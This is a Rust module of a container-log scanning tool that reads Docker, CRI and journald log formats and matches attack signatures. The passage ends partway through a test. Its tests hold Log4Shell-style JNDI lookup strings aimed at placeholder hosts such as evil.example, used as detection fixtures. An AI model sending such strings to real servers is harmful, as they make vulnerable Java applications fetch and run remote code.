//! Streaming a log through the engine: large buffers searched whole, the line around a
//! candidate found only then, line numbers counted lazily, lines longer than the record
//! limit cut at fixed offsets (so results never depend on the buffer size), json-file
//! records decoded only when they are candidates and their 16 KiB parts joined per stream;
//! journald export entries (`journalctl -o export`) read field by field, partial messages
//! joined per container and stream.
//! Large plain files are cut at newlines and scanned in parallel.

use std::collections::BTreeMap;
use std::io::{self, Read};

use rayon::prelude::*;
use serde::Deserialize;

use super::engine::{Engine, RecordMatch, EXCERPT_MAX};
use super::ioc::{self, IocRef};
use super::time::line_time;
use crate::evidence::Artifact;
use crate::model::{excerpt, Diagnostic, Locator, Timestamp};

/// How a stream is read.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum LogFormat {
    /// One record per line (application logs, access logs, syslog, `docker logs -t`).
    Text,
    /// Docker json-file: one `{"log","stream","time"}` object per line.
    JsonFile,
    /// CRI (containerd, CRI-O, Kubernetes `/var/log/pods`): `<RFC 3339> <stream> <P|F> <msg>`
    /// per line; `P` lines are parts of one message, joined per stream up to the `F` line.
    Cri,
    /// systemd journal export format (`journalctl -o export`, what the `journald` log driver
    /// leaves): `FIELD=value` lines (binary fields as a name line, a little-endian u64 length
    /// and the bytes), entries separated by an empty line. `MESSAGE` is the record, the
    /// time `__REALTIME_TIMESTAMP` (µs), the stream `PRIORITY` (3 = stderr, 6 = stdout), and
    /// `CONTAINER_PARTIAL_MESSAGE=true` parts are joined per `CONTAINER_ID` and stream.
    /// `journalctl -o json` lines (the same fields as one object per line) are read too.
    Journal,
    /// The `local` driver's protobuf entries, decoded to CRI lines ([`super::local`]): one
    /// line per entry, offsets in the decoded text.
    Local,
}

impl LogFormat {
    /// Guess from the first bytes: a json-file record starts with `{"log":`.
    pub fn sniff(head: &[u8]) -> Self {
        let h = head.strip_prefix(b"\xef\xbb\xbf").unwrap_or(head);
        if h.starts_with(b"{\"log\":") {
            LogFormat::JsonFile
        } else if h.starts_with(b"__CURSOR=")
            || h.starts_with(b"__REALTIME_TIMESTAMP=")
            || (h.starts_with(b"{")
                && memchr::memmem::find(first_line(h), b"\"__REALTIME_TIMESTAMP\"").is_some())
        {
            LogFormat::Journal
        } else if split_cri(h.split(|c| *c == b'\n').next().unwrap_or(h)).is_some() {
            LogFormat::Cri
        } else {
            LogFormat::Text
        }
    }
}

fn first_line(h: &[u8]) -> &[u8] {
    h.split(|c| *c == b'\n').next().unwrap_or(h)
}

/// One CRI log line split into (time, stream, partial, message), if it is one.
fn split_cri(line: &[u8]) -> Option<(Timestamp, &str, bool, &[u8])> {
    let mut parts = line.splitn(4, |c| *c == b' ');
    let time = std::str::from_utf8(parts.next()?).ok().filter(|t| t.contains('T'))?;
    let time = Timestamp::parse_rfc3339(time)?;
    let stream = match parts.next()? {
        b"stdout" => "stdout",
        b"stderr" => "stderr",
        _ => return None,
    };
    let partial = match parts.next()? {
        b"P" => true,
        b"F" => false,
        _ => return None,
    };
    Some((time, stream, partial, parts.next().unwrap_or_default()))
}

/// Tuning of a scan. The defaults are what ctriage uses; tests vary them.
#[derive(Clone, Debug)]
pub struct ScanConfig {
    /// Read buffer size (at least `max_record + 1`).
    pub buf_size: usize,
    /// Longest record evaluated at once; longer lines are cut into records of this size
    /// at fixed offsets from the line start.
    pub max_record: usize,
    /// Longest json-file message joined from 16 KiB parts before it is evaluated.
    pub max_join: usize,
    /// Year given to syslog times (they carry none); None leaves them unknown.
    pub syslog_year: Option<i32>,
    /// Hits kept per rule per stream (all are counted).
    pub max_hits: usize,
    /// Plain files at least this big are cut into chunks scanned in parallel.
    pub parallel_min: u64,
}

impl Default for ScanConfig {
    fn default() -> Self {
        ScanConfig {
            buf_size: 1 << 20,
            max_record: 64 << 10,
            max_join: 1 << 20,
            syslog_year: None,
            max_hits: 2_000,
            parallel_min: 32 << 20,
        }
    }
}

impl ScanConfig {
    /// The defaults under `limits`: `--max-line` is the record size (the buffer and the
    /// json-file join grow to hold it), `--max-hits` the hits kept per rule per file.
    pub fn with_limits(limits: &crate::limits::Limits) -> Self {
        let d = ScanConfig::default();
        ScanConfig {
            buf_size: d.buf_size.max(limits.max_line.saturating_add(1)),
            max_record: limits.max_line,
            max_join: d.max_join.max(limits.max_line),
            max_hits: limits.max_hits,
            ..d
        }
    }
}

/// A confirmed hit in a stream, before it joins the report.
#[derive(Clone, Debug)]
pub struct RawHit {
    pub rule: usize,
    pub locator: Locator,
    pub time: Option<Timestamp>,
    pub stream: Option<String>,
    pub excerpt: String,
    pub found: RecordMatch,
    pub iocs: Vec<IocRef>,
}

/// What scanning one stream gave.
#[derive(Debug, Default)]
pub struct StreamScan {
    pub hits: Vec<RawHit>,
    /// Hits kept per rule index (at most `max_hits` each).
    pub kept: BTreeMap<usize, usize>,
    /// Hits per rule index, including those beyond `max_hits`.
    pub counts: BTreeMap<usize, u64>,
    /// Requests of `scanner.*` rules per (rule, client address), all counted.
    pub scanner_sources: super::scanners::Tallies,
    /// Newlines seen.
    pub newlines: u64,
    pub bytes: u64,
    pub diagnostics: Vec<Diagnostic>,
}

impl StreamScan {
    fn absorb(&mut self, other: StreamScan, line_base: u64, max_hits: usize) {
        for mut h in other.hits {
            let kept = self.kept.entry(h.rule).or_default();
            if *kept >= max_hits {
                continue;
            }
            *kept += 1;
            h.locator.line = h.locator.line.map(|l| l + line_base);
            self.hits.push(h);
        }
        for (r, c) in other.counts {
            *self.counts.entry(r).or_default() += c;
        }
        for (k, t) in other.scanner_sources {
            self.scanner_sources.entry(k).or_default().merge(&t);
        }
        self.newlines += other.newlines;
        self.bytes += other.bytes;
        self.diagnostics.extend(other.diagnostics);
    }
}

#[derive(Deserialize)]
struct JsonRecord {
    #[serde(default)]
    log: String,
    #[serde(default)]
    stream: Option<String>,
    #[serde(default)]
    time: Option<String>,
}

struct Pending {
    text: Vec<u8>,
    line: u64,
    offset: u64,
    time: Option<Timestamp>,
    /// The artifact the message began in, when it began in an earlier (rotated) file.
    origin: Option<Locator>,
}

/// Partial messages left open at the end of one file of a rotated log, to be completed by
/// the next file of the same log (the same container's stream).
#[derive(Default)]
pub struct Carry(BTreeMap<String, Pending>);

/// The journal entry being read.
#[derive(Default)]
struct JournalEntry {
    /// Line and offset of its first field.
    start: Option<(u64, u64)>,
    message: Option<Vec<u8>>,
    time: Option<Timestamp>,
    priority: Option<u8>,
    container: Option<String>,
    partial: bool,
    /// A binary field being read: (is MESSAGE, bytes still to read, bytes so far).
    binary: Option<(bool, u64, Vec<u8>)>,
    /// A binary field's name line was read; its length comes next.
    binary_name: Option<bool>,
}

/// Separates the stream from the container in a pending key (streams never hold it).
const KEY_SEP: char = '\u{1f}';

struct State<'a> {
    engine: &'a Engine,
    cfg: &'a ScanConfig,
    loc: &'a Locator,
    format: LogFormat,
    /// Line number of the first byte of the current region.
    line: u64,
    /// Absolute offset of the first byte of the current region.
    abs: u64,
    /// Offset of the region start inside its line (non-zero when continuing a long line).
    line_off: u64,
    out: StreamScan,
    /// (line, rule) pairs already reported, for the long line being cut into records.
    last_line: (u64, Vec<usize>),
    pending: BTreeMap<String, Pending>,
    /// The locator of the hits being recorded, when not this stream's (a carried message).
    hit_loc: Option<Locator>,
    journal: JournalEntry,
    bad_json: u64,
    first_bad_json: Option<(u64, u64)>,
    long_json: u64,
    /// Lines longer than the read buffer, and candidates evaluated in a piece of a line
    /// longer than the record size (`--max-line`), for the diagnostic.
    long_lines: u64,
    cut_candidates: u64,
}

/// Scan a stream. `base_offset` is the offset of its first byte in the artifact (for
/// chunks); line numbers count from 1 at the stream start.
pub fn scan_stream<R: Read>(
    r: R,
    format: LogFormat,
    engine: &Engine,
    cfg: &ScanConfig,
    loc: &Locator,
    base_offset: u64,
) -> StreamScan {
    scan_stream_carried(r, format, engine, cfg, loc, base_offset, Carry::default(), true).0
}

/// [`scan_stream`] for one file of a rotated log: `carry` holds the messages the previous
/// (older) file left open; unless `last`, the messages this one leaves open are handed on
/// instead of being evaluated as they are.
#[allow(clippy::too_many_arguments)]
pub fn scan_stream_carried<R: Read>(
    mut r: R,
    format: LogFormat,
    engine: &Engine,
    cfg: &ScanConfig,
    loc: &Locator,
    base_offset: u64,
    carry: Carry,
    last: bool,
) -> (StreamScan, Carry) {
    let max_record = cfg.max_record.max(64);
    let cap = cfg.buf_size.max(max_record + 1);
    let mut st = State {
        engine,
        cfg,
        loc,
        format,
        line: 1,
        abs: base_offset,
        line_off: 0,
        out: StreamScan::default(),
        last_line: (0, Vec::new()),
        pending: carry.0,
        hit_loc: None,
        journal: JournalEntry::default(),
        bad_json: 0,
        first_bad_json: None,
        long_json: 0,
        long_lines: 0,
        cut_candidates: 0,
    };
    let mut buf = vec![0u8; cap];
    let mut len = 0usize;
    let mut eof = false;
    loop {
        while len < cap && !eof {
            match r.read(&mut buf[len..]) {
                Ok(0) => eof = true,
                Ok(n) => len += n,
                Err(e) if e.kind() == io::ErrorKind::Interrupted => {}
                Err(e) => {
                    st.out.diagnostics.push(Diagnostic::error(
                        loc.clone().with_offset(st.abs + len as u64),
                        format!("read failed, log scanned only up to here: {e}"),
                    ));
                    eof = true;
                }
            }
        }
        if len == 0 {
            break;
        }
        let end = if eof { len } else { memchr::memrchr(b'\n', &buf[..len]).map_or(0, |q| q + 1) };
        if end > 0 {
            st.region(&buf[..end], max_record);
            buf.copy_within(end..len, 0);
            len -= end;
        } else {
            // A full buffer without a newline: one record of a long line.
            let seg = max_record.min(len);
            if st.format == LogFormat::JsonFile {
                st.long_json += 1;
            } else if st.line_off == 0 {
                st.long_lines += 1;
            }
            st.text_region(&buf[..seg], max_record);
            st.abs += seg as u64;
            st.line_off += seg as u64;
            st.out.bytes += seg as u64;
            buf.copy_within(seg..len, 0);
            len -= seg;
        }
    }
    if last {
        return (st.finish(), Carry::default());
    }
    if st.format == LogFormat::Journal {
        st.journal_flush();
    }
    let mut open = std::mem::take(&mut st.pending);
    for p in open.values_mut() {
        p.origin.get_or_insert_with(|| loc.clone());
    }
    (st.finish(), Carry(open))
}

impl State<'_> {
    fn region(&mut self, region: &[u8], max_record: usize) {
        let newlines = match self.format {
            LogFormat::Text => self.text_region(region, max_record),
            LogFormat::JsonFile if self.line_off > 0 => {
                // The tail of an over-long json line: treated as text like its head.
                self.text_region(region, max_record)
            }
            LogFormat::JsonFile => self.json_region(region),
            LogFormat::Cri if self.line_off > 0 => self.text_region(region, max_record),
            LogFormat::Cri => self.cri_region(region),
            LogFormat::Journal => self.journal_region(region),
            LogFormat::Local if self.line_off > 0 => self.text_region(region, max_record),
            LogFormat::Local => self.cri_region(region),
        };
        self.line += newlines;
        self.abs += region.len() as u64;
        self.out.bytes += region.len() as u64;
        self.out.newlines += newlines;
        self.line_off = if region.last() == Some(&b'\n') { 0 } else { self.line_off + region.len() as u64 };
    }

    /// Bulk search of complete lines (or one piece of a long line); returns newlines.
    fn text_region(&mut self, region: &[u8], max_record: usize) -> u64 {
        let m = max_record as u64;
        let mut pos = 0usize;
        let mut counted_pos = 0usize;
        let mut line = self.line;
        while pos < region.len() {
            let Some(c) = self.engine.next_candidate(region, pos) else { break };
            let ls = memchr::memrchr(b'\n', &region[..c]).map_or(0, |q| q + 1);
            let le = memchr::memchr(b'\n', &region[c..]).map_or(region.len(), |q| c + q);
            let off0 = if ls == 0 { self.line_off } else { 0 };
            let seg_in_line = ((c - ls) as u64 + off0) / m * m;
            let seg_start = ls + (seg_in_line - off0) as usize;
            let seg_end = le.min(seg_start + max_record);
            line += count_newlines(&region[counted_pos..ls]);
            counted_pos = ls;
            if seg_in_line > 0 || seg_end < le {
                self.cut_candidates += 1;
            }
            let rec = trim_cr(&region[seg_start..seg_end]);
            let time = if seg_in_line == 0 { line_time(rec, self.cfg.syslog_year) } else { None };
            self.record(rec, line, self.abs + seg_start as u64, time, None);
            pos = if seg_end == le { le + 1 } else { seg_end };
        }
        line - self.line + count_newlines(&region[counted_pos.min(region.len())..])
    }

    fn json_region(&mut self, region: &[u8]) -> u64 {
        let mut start = 0usize;
        let mut line = self.line;
        let mut newlines = 0;
        while start < region.len() {
            let end = memchr::memchr(b'\n', &region[start..]).map_or(region.len(), |q| start + q);
            self.json_line(trim_cr(&region[start..end]), line, self.abs + start as u64);
            if end < region.len() {
                newlines += 1;
                line += 1;
            }
            start = end + 1;
        }
        newlines
    }

    fn cri_region(&mut self, region: &[u8]) -> u64 {
        let mut start = 0usize;
        let mut line = self.line;
        let mut newlines = 0;
        while start < region.len() {
            let end = memchr::memchr(b'\n', &region[start..]).map_or(region.len(), |q| start + q);
            self.cri_line(trim_cr(&region[start..end]), line, self.abs + start as u64);
            if end < region.len() {
                newlines += 1;
                line += 1;
            }
            start = end + 1;
        }
        newlines
    }

    fn journal_region(&mut self, region: &[u8]) -> u64 {
        let mut start = 0usize;
        let mut line = self.line;
        let mut newlines = 0;
        while start < region.len() {
            let end = memchr::memchr(b'\n', &region[start..]).map_or(region.len(), |q| start + q);
            let ends_line = end < region.len();
            self.journal_line(&region[start..end], ends_line, line, self.abs + start as u64);
            if ends_line {
                newlines += 1;
                line += 1;
            }
            start = end + 1;
        }
        newlines
    }

    /// One line of a journal export (or a piece of a binary field's data).
    fn journal_line(&mut self, raw: &[u8], ends_line: bool, line: u64, offset: u64) {
        let j = &mut self.journal;
        if let Some((is_msg, need, mut data)) = j.binary.take() {
            // Binary data may hold newlines: the line cut is part of the data. What is kept
            // is bounded by the join limit, whatever length the field claims.
            let take = (raw.len() as u64).min(need) as usize;
            let room = self.cfg.max_join.saturating_sub(data.len());
            data.extend_from_slice(&raw[..take.min(room)]);
            let mut left = need - take as u64;
            if left > 0 && ends_line {
                if data.len() < self.cfg.max_join {
                    data.push(b'\n');
                }
                left -= 1;
            }
            if left > 0 {
                j.binary = Some((is_msg, left, data));
            } else if is_msg {
                j.message = Some(data);
            }
            return;
        }
        if let Some(is_msg) = j.binary_name.take() {
            if raw.len() >= 8 {
                let need = u64::from_le_bytes(raw[..8].try_into().unwrap_or_default());
                let rest = &raw[8..];
                j.binary = Some((is_msg, need, Vec::new()));
                self.journal_line(rest, ends_line, line, offset);
                return;
            }
        }
        if raw.is_empty() {
            self.journal_flush();
            return;
        }
        if raw.first() == Some(&b'{') && j.start.is_none() {
            self.journal_json(raw, line, offset);
            return;
        }
        let j = &mut self.journal;
        j.start.get_or_insert((line, offset));
        match memchr::memchr(b'=', raw) {
            Some(eq) => {
                let (k, v) = (&raw[..eq], &raw[eq + 1..]);
                let s = || std::str::from_utf8(v).ok();
                match k {
                    b"MESSAGE" => j.message = Some(v.to_vec()),
                    b"__REALTIME_TIMESTAMP" => {
                        j.time = s().and_then(|t| t.parse::<i64>().ok()).map(|us| {
                            Timestamp::from_unix(
                                us.div_euclid(1_000_000),
                                (us.rem_euclid(1_000_000) * 1000) as u32,
                            )
                        })
                    }
                    b"PRIORITY" => j.priority = s().and_then(|p| p.parse().ok()),
                    b"CONTAINER_ID_FULL" => j.container = s().map(String::from),
                    b"CONTAINER_ID" if j.container.is_none() => j.container = s().map(String::from),
                    b"CONTAINER_PARTIAL_MESSAGE" => j.partial = v == b"true",
                    _ => {}
                }
            }
            None => j.binary_name = Some(raw == b"MESSAGE"),
        }
    }

    /// One `journalctl -o json` line: the same fields as one JSON object (`MESSAGE` a
    /// string, or an array of bytes when it is not UTF-8).
    fn journal_json(&mut self, raw: &[u8], line: u64, offset: u64) {
        let Ok(serde_json::Value::Object(o)) = serde_json::from_slice::<serde_json::Value>(raw) else {
            self.bad_json += 1;
            self.first_bad_json.get_or_insert((line, offset));
            let time = line_time(raw, self.cfg.syslog_year);
            self.record(raw, line, offset, time, None);
            return;
        };
        let s = |k: &str| o.get(k).and_then(|v| v.as_str()).map(String::from);
        let message = match o.get("MESSAGE") {
            Some(serde_json::Value::String(m)) => Some(m.clone().into_bytes()),
            Some(serde_json::Value::Array(a)) => {
                Some(a.iter().filter_map(|b| b.as_u64()).map(|b| b as u8).collect::<Vec<u8>>())
            }
            _ => None,
        };
        self.journal = JournalEntry {
            start: Some((line, offset)),
            message,
            time: s("__REALTIME_TIMESTAMP").and_then(|t| t.parse::<i64>().ok()).map(|us| {
                Timestamp::from_unix(us.div_euclid(1_000_000), (us.rem_euclid(1_000_000) * 1000) as u32)
            }),
            priority: s("PRIORITY").and_then(|p| p.parse().ok()),
            container: s("CONTAINER_ID_FULL").or_else(|| s("CONTAINER_ID")),
            partial: s("CONTAINER_PARTIAL_MESSAGE").as_deref() == Some("true"),
            ..Default::default()
        };
        self.journal_flush();
    }

    /// The entry read so far is complete: its message joins its container's stream.
    fn journal_flush(&mut self) {
        let j = std::mem::take(&mut self.journal);
        let (Some((line, offset)), Some(msg)) = (j.start, j.message) else { return };
        let stream = match j.priority {
            Some(p) if p <= 3 => "stderr",
            Some(_) => "stdout",
            None => "",
        };
        let key = format!("{stream}{KEY_SEP}{}", j.container.unwrap_or_default());
        if let Some(mut p) = self.pending.remove(&key) {
            let room = self.cfg.max_join.saturating_sub(p.text.len());
            p.text.extend_from_slice(&msg[..msg.len().min(room)]);
            if j.partial && p.text.len() < self.cfg.max_join {
                self.pending.insert(key, p);
            } else {
                self.hit_loc = p.origin.clone();
                self.message(&p.text, p.line, p.offset, p.time, stream);
                self.hit_loc = None;
            }
        } else if j.partial {
            let text = msg[..msg.len().min(self.cfg.max_join)].to_vec();
            self.pending.insert(key, Pending { text, line, offset, time: j.time, origin: None });
        } else {
            self.message(&msg, line, offset, j.time, stream);
        }
    }

    fn cri_line(&mut self, raw: &[u8], line: u64, offset: u64) {
        let Some((time, stream, partial, msg)) = split_cri(raw) else {
            // Not a CRI line (a stray line in the file): searched as text.
            if self.engine.next_candidate(raw, 0).is_some() {
                let time = line_time(raw, self.cfg.syslog_year);
                self.record(raw, line, offset, time, None);
            }
            return;
        };
        let msg_offset = offset + (raw.len() - msg.len()) as u64;
        if let Some(mut p) = self.pending.remove(stream) {
            let room = self.cfg.max_join.saturating_sub(p.text.len());
            p.text.extend_from_slice(&msg[..msg.len().min(room)]);
            if partial && p.text.len() < self.cfg.max_join {
                self.pending.insert(stream.to_string(), p);
            } else {
                self.hit_loc = p.origin.clone();
                self.message(&p.text, p.line, p.offset, p.time, stream);
                self.hit_loc = None;
            }
        } else if partial {
            let text = msg[..msg.len().min(self.cfg.max_join)].to_vec();
            self.pending.insert(
                stream.to_string(),
                Pending { text, line, offset: msg_offset, time: Some(time), origin: None },
            );
        } else {
            self.message(msg, line, msg_offset, Some(time), stream);
        }
    }

    fn json_line(&mut self, raw: &[u8], line: u64, offset: u64) {
        if raw.is_empty() {
            return;
        }
        let partial =
            raw.starts_with(b"{\"log\":\"") && memchr::memmem::rfind(raw, b"\\n\",\"stream\"").is_none();
        if !partial && self.pending.is_empty() && self.engine.next_candidate(raw, 0).is_none() {
            return;
        }
        let rec: JsonRecord = match serde_json::from_slice(raw) {
            Ok(r) => r,
            Err(_) => {
                self.bad_json += 1;
                self.first_bad_json.get_or_insert((line, offset));
                let time = line_time(raw, self.cfg.syslog_year);
                self.record(raw, line, offset, time, None);
                return;
            }
        };
        let time = rec.time.as_deref().and_then(Timestamp::parse_rfc3339);
        let stream = rec.stream.unwrap_or_default();
        let ends = rec.log.ends_with('\n');
        let mut text = rec.log.into_bytes();
        if let Some(mut p) = self.pending.remove(&stream) {
            p.text.extend_from_slice(&text);
            if ends || p.text.len() >= self.cfg.max_join {
                self.hit_loc = p.origin.clone();
                self.message(&p.text, p.line, p.offset, p.time.or(time), &stream);
                self.hit_loc = None;
            } else {
                self.pending.insert(stream, p);
            }
            return;
        }
        if !ends && text.len() >= PART_SIZE {
            text.truncate(self.cfg.max_join);
            self.pending.insert(stream, Pending { text, line, offset, time, origin: None });
            return;
        }
        self.message(&text, line, offset, time, &stream);
    }

    fn message(&mut self, text: &[u8], line: u64, offset: u64, time: Option<Timestamp>, stream: &str) {
        let text = trim_cr(text.strip_suffix(b"\n").unwrap_or(text));
        if self.engine.next_candidate(text, 0).is_none() {
            return;
        }
        let time = time.or_else(|| line_time(text, self.cfg.syslog_year));
        self.record(text, line, offset, time, (!stream.is_empty()).then(|| stream.to_string()));
    }

    fn record(
        &mut self,
        rec: &[u8],
        line: u64,
        offset: u64,
        time: Option<Timestamp>,
        stream: Option<String>,
    ) {
        let found = self.engine.evaluate(rec);
        if found.is_empty() {
            return;
        }
        if self.last_line.0 != line {
            self.last_line = (line, Vec::new());
        }
        for m in found {
            if self.last_line.1.contains(&m.rule) {
                continue;
            }
            self.last_line.1.push(m.rule);
            *self.out.counts.entry(m.rule).or_default() += 1;
            if super::scanners::is_scanner(&self.engine.rules()[m.rule]) {
                let client = m.http.as_ref().and_then(|h| h.client.clone()).unwrap_or_default();
                self.out.scanner_sources.entry((m.rule, client)).or_default().add(time);
            }
            let kept = self.out.kept.entry(m.rule).or_default();
            if *kept >= self.cfg.max_hits {
                continue;
            }
            *kept += 1;
            let shown = if m.decoded.is_some() || m.span == (0, 0) {
                (0, rec.len().min(EXCERPT_MAX))
            } else {
                m.span
            };
            let text = match &m.decoded {
                Some(_) => String::from_utf8_lossy(&super::decode::normalize(rec, false)).into_owned(),
                None => String::from_utf8_lossy(rec).into_owned(),
            };
            let iocs = ioc::extract(rec, &text, m.jndi.as_ref(), &m.commands);
            self.out.hits.push(RawHit {
                rule: m.rule,
                locator: self
                    .hit_loc
                    .clone()
                    .unwrap_or_else(|| self.loc.clone())
                    .with_line(line)
                    .with_offset(offset),
                time,
                stream: stream.clone(),
                excerpt: excerpt(rec, shown.0, shown.1, EXCERPT_MAX),
                found: m,
                iocs,
            });
        }
    }

    fn finish(mut self) -> StreamScan {
        if self.format == LogFormat::Journal {
            self.journal_flush(); // the last entry may lack its empty line
        }
        let pending = std::mem::take(&mut self.pending);
        for (key, p) in pending {
            let stream = key.split(KEY_SEP).next().unwrap_or_default().to_string();
            self.hit_loc = p.origin.clone();
            self.message(&p.text, p.line, p.offset, p.time, &stream);
            self.hit_loc = None;
        }
        if self.bad_json > 0 {
            let (line, offset) = self.first_bad_json.unwrap_or((0, 0));
            self.out.diagnostics.push(Diagnostic::warning(
                self.loc.clone().with_line(line).with_offset(offset),
                format!("{} json-file record(s) are not valid JSON; scanned as plain text", self.bad_json),
            ));
        }
        if self.long_json > 0 {
            self.out.diagnostics.push(Diagnostic::warning(
                self.loc.clone(),
                format!(
                    "{} piece(s) of json-file lines longer than {} bytes scanned as plain text",
                    self.long_json, self.cfg.buf_size
                ),
            ));
        }
        let m = self.cfg.max_record.max(64);
        if self.long_lines > 0 {
            self.out.diagnostics.push(Diagnostic::warning(
                self.loc.clone(),
                format!(
                    "{} line(s) longer than {} bytes, scanned in {m}-byte records (limit --max-line)",
                    self.long_lines, self.cfg.buf_size
                ),
            ));
        }
        if self.cut_candidates > 0 {
            self.out.diagnostics.push(Diagnostic::warning(
                self.loc.clone(),
                format!(
                    "{} signature candidate(s) in lines longer than {m} bytes (limit --max-line): each was evaluated in its {m}-byte record, a match across a cut can be missed",
                    self.cut_candidates
                ),
            ));
        }
        self.out
    }
}

/// Docker's log copier cuts messages longer than its 16 KiB buffer into parts whose `log`
/// lacks the final newline. A shorter record without a newline is not a part: it is the last
/// output of a process that exited without printing one, complete as it is.
const PART_SIZE: usize = 16 * 1024;

/// Newlines in `b` (memchr's vectorised search: about 10 GB/s on ordinary log lines).
fn count_newlines(b: &[u8]) -> u64 {
    memchr::memchr_iter(b'\n', b).count() as u64
}

fn trim_cr(b: &[u8]) -> &[u8] {
    b.strip_suffix(b"\r").unwrap_or(b)
}

/// Scan a whole artifact: plain seekable files big enough are cut at newlines into chunks
/// scanned in parallel, anything else is streamed.
pub fn scan_artifact(a: &Artifact, format: LogFormat, engine: &Engine, cfg: &ScanConfig) -> StreamScan {
    let loc = a.locator();
    let size = a.size;
    if format == LogFormat::Text && a.is_seekable() && size >= cfg.parallel_min {
        match chunk_bounds(a, size, cfg) {
            Ok(bounds) if bounds.len() > 2 => {
                let parts: Vec<StreamScan> = bounds
                    .par_windows(2)
                    .map(|w| match a.open_at(w[0]) {
                        Ok(r) => scan_stream(r.take(w[1] - w[0]), format, engine, cfg, &loc, w[0]),
                        Err(e) => StreamScan {
                            diagnostics: vec![Diagnostic::error(
                                loc.clone().with_offset(w[0]),
                                format!("cannot read: {e}"),
                            )],
                            ..Default::default()
                        },
                    })
                    .collect();
                let mut all = StreamScan::default();
                let mut base = 0;
                for p in parts {
                    let n = p.newlines;
                    all.absorb(p, base, cfg.max_hits);
                    base += n;
                }
                return all;
            }
            Ok(_) => {}
            Err(e) => {
                return StreamScan {
                    diagnostics: vec![Diagnostic::error(loc, format!("cannot read: {e}"))],
                    ..Default::default()
                }
            }
        }
    }
    match a.open() {
        Ok(r) => scan_stream(r, format, engine, cfg, &loc, 0),
        Err(e) => StreamScan {
            diagnostics: vec![Diagnostic::error(loc, format!("cannot read: {e}"))],
            ..Default::default()
        },
    }
}

/// Chunk boundaries `[0, b1, ..., size]`, each just after a newline.
fn chunk_bounds(a: &Artifact, size: u64, cfg: &ScanConfig) -> io::Result<Vec<u64>> {
    let threads = rayon::current_num_threads().max(1) as u64;
    let chunk = (size / (threads * 4)).max(cfg.parallel_min / 2).max(1 << 20);
    let mut bounds = vec![0u64];
    let mut next = chunk;
    let mut probe = vec![0u8; 64 << 10];
    while next < size {
        let mut r = a.open_at(next)?;
        let mut at = next;
        let found = loop {
            let n = r.read(&mut probe)?;
            if n == 0 {
                break None;
            }
            if let Some(q) = memchr::memchr(b'\n', &probe[..n]) {
                break Some(at + q as u64 + 1);
            }
            at += n as u64;
        };
        match found {
            Some(b) if b < size => {
                bounds.push(b);
                next = b + chunk;
            }
            _ => break,
        }
    }
    bounds.push(size);
    Ok(bounds)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn cri_partial_lines_are_joined_per_stream_before_matching() {
        // containerd splits long messages into `P` parts ended by an `F` line; a payload
        // cut across them, with the other stream interleaved, is found once, on the line
        // where the message starts, with its time and stream.
        let log = b"2026-11-27T14:00:00.100000000Z stdout F GET / 200\n\
2026-11-27T14:00:01.000000000Z stdout P 10.0.0.9 - - \"GET /?q=${jn\n\
2026-11-27T14:00:01.000000001Z stderr F unrelated warning\n\
2026-11-27T14:00:01.000000002Z stdout P di:ldap://cri.example:1389/\n\
2026-11-27T14:00:01.000000003Z stdout F a} HTTP/1.1\" 200\n\
not a cri line ${jndi:ldap://stray.example/x}\n";
        let engine = Engine::builtin().unwrap();
        let loc = Locator::artifact("0.log");
        for buf_size in [80, 1 << 20] {
            let cfg = ScanConfig { buf_size, max_record: 64, ..Default::default() };
            let scan = scan_stream(&log[..], LogFormat::Cri, &engine, &cfg, &loc, 0);
            let jndi: Vec<_> = scan
                .hits
                .iter()
                .filter(|h| h.found.jndi.is_some())
                .map(|h| (h.locator.line, h.stream.clone()))
                .collect();
            assert_eq!(jndi, [(Some(2), Some("stdout".to_string())), (Some(6), None)], "buf {buf_size}");
            let first = scan.hits.iter().find(|h| h.locator.line == Some(2)).unwrap();
            assert_eq!(first.time.map(|t| t.to_iso()).as_deref(), Some("2026-11-27T14:00:01.000000000Z"));
            assert_eq!(first.found.jndi.as_ref().unwrap().host.as_deref(), Some("cri.example"));
        }
    }

    #[test]
    fn newline_count_matches_naive_count_at_every_size() {
        let mut data = Vec::new();
        for i in 0..20_000u32 {
            data.push(if i % 7 == 0 || i % 251 == 0 { b'\n' } else { (i % 200) as u8 + 20 });
        }
        for len in [0, 1, 31, 32, 33, 8159, 8160, 8161, 20_000] {
            let naive = data[..len].iter().filter(|&&b| b == b'\n').count() as u64;
            assert_eq!(count_newlines(&data[..len]), naive, "{len}");
        }
        assert_eq!(count_newlines(&vec![b'\n'; 100_000]), 100_000);
    }

    #[test]
    fn format_is_sniffed() {
        assert_eq!(LogFormat::sniff(b"2026-11-27T14:00:00.123456789Z stdout F GET /\n"), LogFormat::Cri);
        assert_eq!(LogFormat::sniff(b"2026-11-27T14:00:00.1Z hello\n"), LogFormat::Text);
        assert_eq!(LogFormat::sniff(b"{\"log\":\"x\"}"), LogFormat::JsonFile);
        assert_eq!(LogFormat::sniff(b"\xef\xbb\xbf{\"log\":"), LogFormat::JsonFile);
        assert_eq!(LogFormat::sniff(b"2026-11-27T14:00:00Z x"), LogFormat::Text);
    }

    #[test]
    fn partial_records_never_join_across_streams() {
        // Half a payload on stderr (a `P` part), the other half on stdout: two streams, no
        // message holds `${jndi:...}`, so no hit may be made up by joining them.
        let engine = Engine::builtin().unwrap();
        let loc = Locator::artifact("0.log");
        let cfg = ScanConfig::default();
        let cri = b"2026-11-27T14:00:01.000000000Z stderr P GET /?q=${jn\n\
2026-11-27T14:00:01.000000001Z stdout F di:ldap://evil.example/a}\n\
2026-11-27T14:00:01.000000002Z stderr F  tail of the stderr message\n";
        let scan = scan_stream(&cri[..], LogFormat::Cri, &engine, &cfg, &loc, 0);
        assert!(scan.hits.iter().all(|h| h.found.jndi.is_none()), "{:?}", scan.hits.len());
        // The same in json-file: a 16 KiB stderr part without `\n`, then a stdout record.
        let pad = "x".repeat(PART_SIZE);
        let json = format!(
            "{{\"log\":\"{pad}${{jn\",\"stream\":\"stderr\",\"time\":\"2026-11-27T14:00:00Z\"}}\n\
{{\"log\":\"di:ldap://evil.example/a}}\\n\",\"stream\":\"stdout\",\"time\":\"2026-11-27T14:00:01Z\"}}\n\
{{\"log\":\"end\\n\",\"stream\":\"stderr\",\"time\":\"2026-11-27T14:00:02Z\"}}\n"
        );
        let scan = scan_stream(json.as_bytes(), LogFormat::JsonFile, &engine, &cfg, &loc, 0);
        assert!(scan.hits.iter().all(|h| h.found.jndi.is_none()));
        // Joined within its own stream, the payload is found, on the line it starts.
        let json = format!(
